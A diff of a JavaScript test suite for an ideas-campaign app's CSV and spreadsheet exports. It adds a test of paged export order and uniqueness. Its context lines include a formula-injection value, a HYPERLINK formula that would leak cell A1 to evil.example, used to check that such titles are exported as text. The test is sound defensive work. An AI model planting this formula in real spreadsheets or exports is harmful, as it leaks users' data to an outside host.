@@ -105,6 +105,18 @@ describe("a campaign's ideas and the jury's ranking", () => {
     expect(ws.getCell("F2").value).toBe(means[0]);
   });
 
+  it("streams a campaign's ideas page by page (244 ideas, two pages of 200): each idea once", async () => {
+    const ideas = await csv(await c.team.get(`/lab/campagnes/${ids.contest}/export/idees.csv`));
+    const ranking = await csv(await c.team.get(`/lab/campagnes/${ids.contest}/export/classement.csv`));
+    const links = ideas.slice(1).map((r) => r[16]);
+    expect(links.length).toBeGreaterThan(200);
+    expect(new Set(links).size).toBe(links.length);
+    expect(new Set(links)).toEqual(new Set(ranking.slice(1).map((r) => r[r.length - 1])));
+    // in the order they were submitted
+    const days = ideas.slice(1).map((r) => r[8].replace(/^(\d{2})\/(\d{2})\/(\d{4}) (.*)$/, "$3-$2-$1 $4"));
+    expect(days).toEqual([...days].sort());
+  });
+
   it("exports every idea with its content; a title written like a formula stays a text in both formats", async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")';
     const title = `${formula} pour tous`;
